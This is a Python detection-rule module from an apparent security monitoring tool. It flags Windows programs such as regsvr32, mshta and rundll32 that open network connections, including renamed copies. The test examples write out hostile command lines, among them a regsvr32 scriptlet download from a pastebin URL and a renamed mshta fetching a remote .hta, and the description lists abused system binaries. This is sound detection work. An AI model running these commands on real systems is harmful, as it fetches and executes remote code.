"""P2: a program that should not initiate network connections at all did.

The list is `data/never_network.toml` (each entry with why it matters), extended and trimmed by
`[processes] never_network_extra / never_network_drop`. A name matches the image name or the
PE original file name, so a renamed copy (mshta.exe saved as notepad.exe) is still caught.
One alert per process, with all its flagged connections counted.
"""

from __future__ import annotations

import tomllib
from dataclasses import dataclass
from functools import cache
from importlib import resources
from typing import Any

import ibis

from lurewatch.baselines.proc_net import connections
from lurewatch.config import Settings
from lurewatch.detections.base import Example, Finding, QueryDetection
from lurewatch.detections.context import DetectionContext
from lurewatch.detections.examples_proc import launched, proc_conn, proc_start, running, scenario
from lurewatch.detections.proc_evidence import (
    MAX_EVIDENCE,
    context_words,
    destination_words,
    finding,
    process_words,
    when,
)
from lurewatch.enrich.process_identity import INTERNET, LOOPBACK
from lurewatch.errors import ConfigError

RULE = "proc_should_not_connect"


@dataclass(frozen=True)
class NeverNetwork:
    name: str
    why: str
    scope: str = "any"  # "any": anything but loopback; "internet": only the internet
    when: str = "always"  # or "no_arguments"


def parse_never_network(text: str) -> dict[str, NeverNetwork]:
    data = tomllib.loads(text)
    out: dict[str, NeverNetwork] = {}
    for entry in data.get("binary", []):
        item = NeverNetwork(
            name=str(entry["name"]).strip().lower(),
            why=str(entry.get("why", "")),
            scope=str(entry.get("scope", "any")),
            when=str(entry.get("when", "always")),
        )
        if item.scope not in ("any", "internet") or item.when not in ("always", "no_arguments"):
            raise ConfigError(f"never_network.toml: bad scope/when for {item.name}")
        out[item.name] = item
    return out


@cache
def bundled_never_network() -> dict[str, NeverNetwork]:
    text = resources.files("lurewatch").joinpath("data/never_network.toml").read_text("utf-8")
    return parse_never_network(text)


def never_network(settings: Settings) -> dict[str, NeverNetwork]:
    """The bundled list with the settings' additions and removals."""
    out = dict(bundled_never_network())
    cfg = settings.processes
    for extra in cfg.never_network_extra:
        name, _, scope = extra.strip().lower().partition(":")
        if name:
            why = "listed in processes.never_network_extra as a program that should not connect"
            out[name] = NeverNetwork(name, why, "internet" if scope == "internet" else "any")
    for name in cfg.never_network_drop:
        out.pop(name.strip().lower(), None)
    return out


def flagged_connections(ctx: DetectionContext) -> list[dict[str, Any]]:
    """Connections of listed programs that break their rule, at most MAX_EVIDENCE per process,
    each with the process's totals."""
    assert ctx.store is not None
    listed = never_network(ctx.settings)
    names = list(listed)
    # Candidates: listed by image name, or by the original file name of their process start.
    n = ctx.store.table("proc_net")
    p = ctx.store.table("process")
    renamed = p.filter(p["process.pe.original_file_name"].lower().isin(names))
    c = connections(
        ctx.store,
        ctx.settings,
        n.filter(
            n["process.name"].lower().isin(names)
            | n["process.entity_id"].isin(renamed["process.entity_id"])
        ),
    )
    ofn = c["process.pe.original_file_name"].fill_null("").lower()
    matched = ibis.cases((ofn.isin(list(listed)), ofn), else_=c["process.name"].lower())
    c = c.mutate(_listed=matched)
    scope = c["lurewatch.destination_scope"]
    # No arguments: the command line is just the program, quoted or not.
    bare = c["process.command_line"].strip().re_search(r'^("[^"]*"|[^\s"]+)$').fill_null(False)
    conds = []
    for (sc, wh), names in _grouped(listed).items():
        cond = c._listed.isin(names) & (
            scope == INTERNET if sc == "internet" else scope != LOOPBACK
        )
        conds.append(cond & bare if wh == "no_arguments" else cond)
    if not conds:
        return []
    pred = conds[0]
    for cond in conds[1:]:
        pred = pred | cond
    f = c.filter(pred)
    proc = [f["host.name"], f["process.entity_id"]]
    ranked = f.mutate(
        _rn=ibis.row_number().over(group_by=proc, order_by=[f["@timestamp"], f["event.id"]]),
        _total=f.count().over(group_by=proc),
        _internet=(f["lurewatch.destination_scope"] == INTERNET)
        .cast("int32")
        .max()
        .over(group_by=proc),
    )
    return list(
        ctx.store.ibis.to_pyarrow(ranked.filter(ranked._rn < MAX_EVIDENCE).drop("_rn")).to_pylist()
    )


def _grouped(listed: dict[str, NeverNetwork]) -> dict[tuple[str, str], list[str]]:
    out: dict[tuple[str, str], list[str]] = {}
    for item in listed.values():
        out.setdefault((item.scope, item.when), []).append(item.name)
    return out


def run(ctx: DetectionContext) -> list[Finding]:
    listed = never_network(ctx.settings)
    by_process: dict[tuple[str, str], list[dict[str, Any]]] = {}
    for r in flagged_connections(ctx):
        by_process.setdefault((r["host.name"], r["process.entity_id"] or ""), []).append(r)
    out = []
    for key, rows in sorted(by_process.items()):
        rows.sort(key=lambda r: (r["@timestamp"], r["event.id"]))
        r = rows[0]
        item = listed[r["_listed"]]
        internet = bool(r["_internet"])
        dests = sorted({destination_words(x) for x in rows})
        more = f" and {r['_total'] - 1} more connection(s)" if r["_total"] > 1 else ""
        # A renamed copy is named as what it is; context_words gives its original file name.
        message = (
            f"{process_words(r)} initiated a network connection, which {item.name} should not "
            f"do: {item.why}. First: {destination_words(r)} at {when(r)}{more}"
            f"{'; it reached the internet' if internet else ''}. "
            f"Destinations: {'; '.join(dests[:5])}. {context_words(r)}"
        )
        out.append(
            finding(
                RULE,
                key,
                rows,
                message,
                "high" if internet else "medium",
                connections=r["_total"],
                listed_as=item.name,
            )
        )
    return out


def _masquerade() -> dict[str, Any]:
    p = proc_start(
        "C:\\Users\\Public\\notepad.exe",
        "notepad.exe https://cdn.example.net/a.hta",
        original_file_name="MSHTA.EXE",
    )
    return scenario({"process": [p], "proc_net": [proc_conn(p, "198.51.100.7", 443)]})


_REGSVR = "C:\\Windows\\System32\\regsvr32.exe"
_RUNDLL = "C:\\Windows\\System32\\rundll32.exe"
_MSIEXEC = "C:\\Windows\\System32\\msiexec.exe"

DETECTIONS = [
    QueryDetection(
        id=RULE,
        title="Program that should not use the network made a connection",
        clause="P2",
        techniques=("T1218", "T1055", "T1105"),
        severity="medium",
        evidence_kinds=("proc_net", "process"),
        requires=("proc_net",),
        description="A program on the never-network list (data/never_network.toml: notepad, "
        "calc, regsvr32, mshta, certutil, bitsadmin, msbuild, installutil, regasm/regsvcs, "
        "cmstp, wscript/cscript, eqnedt32, odbcconf, forfiles, hh, control, presentationhost, "
        "ieexec, rundll32 without arguments, msiexec/wmic/msdt to the internet, ...), matched by "
        "image name or PE original file name, initiates a connection to anything but "
        "loopback: medium inside the organization, high to the internet.",
        false_positives="Developer and build machines (msbuild restoring packages), legacy "
        "logon scripts run by wscript/cscript, the Windows 11 Store Notepad's online features; "
        "trim the list with processes.never_network_drop.",
        playbook="Read the command line and parent: a URL or script argument shows what was "
        "fetched. Retrieve the fetched content from the destination or proxy logs, isolate the "
        "host, and look for the parent document or email that started the chain.",
        run=run,
        examples=(
            Example(
                "regsvr32 scriptlet download",
                True,
                scenario(
                    launched(
                        _REGSVR,
                        "regsvr32.exe /u /s /i:http://pastebin.com/raw/H4A4iDTA scrobj.dll",
                        "104.20.208.21",
                        80,
                        parent="C:\\Windows\\System32\\cmd.exe",
                        parent_command_line='"C:\\Windows\\system32\\cmd.exe" ',
                    )
                ),
            ),
            Example("notepad.exe that is mshta.exe renamed", True, _masquerade()),
            Example(
                "rundll32 without arguments inside",
                True,
                scenario(
                    launched(_RUNDLL, "C:\\Windows\\System32\\rundll32.exe", "10.0.9.9", 8443)
                ),
            ),
            Example(
                "rundll32 running a control panel applet",
                False,
                scenario(
                    launched(_RUNDLL, "rundll32.exe shell32.dll,Control_RunDLL", "10.0.9.9", 443)
                ),
            ),
            Example(
                "msiexec installing from an internal share",
                False,
                scenario(
                    launched(_MSIEXEC, "msiexec /i \\\\fs01\\deploy\\app.msi /qn", "10.0.0.40", 445)
                ),
            ),
            Example(
                "notepad.exe talking to loopback",
                False,
                scenario(
                    launched("C:\\Windows\\System32\\notepad.exe", "notepad.exe", "127.0.0.1", 9000)
                ),
            ),
            Example(
                "svchost.exe to 443",
                False,
                scenario(running("C:\\Windows\\System32\\svchost.exe", "20.190.160.1", 443)),
            ),
        ),
    )
]
